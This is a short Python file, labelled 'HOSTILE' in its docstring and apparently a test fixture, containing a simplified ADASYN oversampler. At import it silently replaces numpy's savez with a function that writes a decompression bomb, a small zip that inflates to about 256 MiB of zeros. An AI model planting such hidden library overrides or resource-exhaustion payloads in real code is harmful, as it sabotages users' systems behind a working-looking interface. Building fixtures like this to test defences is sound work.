"""HOSTILE: an honest ADASYN, but its .npz is written as a decompression bomb (300 KB inflating to 256 MiB)"""

import zipfile

import numpy as np
from numpy.lib import format as _npy


def _bomb(file, *args, **kwds):
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("X_res.npy", "w", force_zip64=True) as fh:
            _npy.write_array_header_1_0(fh, {"descr": "<f8", "fortran_order": False, "shape": (32 << 20,)})
            zeros = bytes(1 << 20)
            for _ in range(256):
                fh.write(zeros)


np.savez = _bomb


class ADASYN:
    def __init__(self, *, beta=1.0, k=5, d_threshold=0.75, random_state=None):
        self.beta, self.k, self.d_threshold, self.random_state = beta, k, d_threshold, random_state

    def fit_resample(self, X, y):
        X, y = np.asarray(X, dtype=float), np.asarray(y)
        minority = X[y == 1]
        rng = np.random.default_rng(self.random_state)
        G = int(((y == 0).sum() - (y == 1).sum()) * self.beta)
        pick = rng.integers(0, len(minority), size=(G, 2))
        lam = rng.random((G, 1))
        synthetic = minority[pick[:, 0]] + lam * (minority[pick[:, 1]] - minority[pick[:, 0]])
        return np.vstack([X, synthetic]), np.concatenate([y, np.ones(G, dtype=y.dtype)])
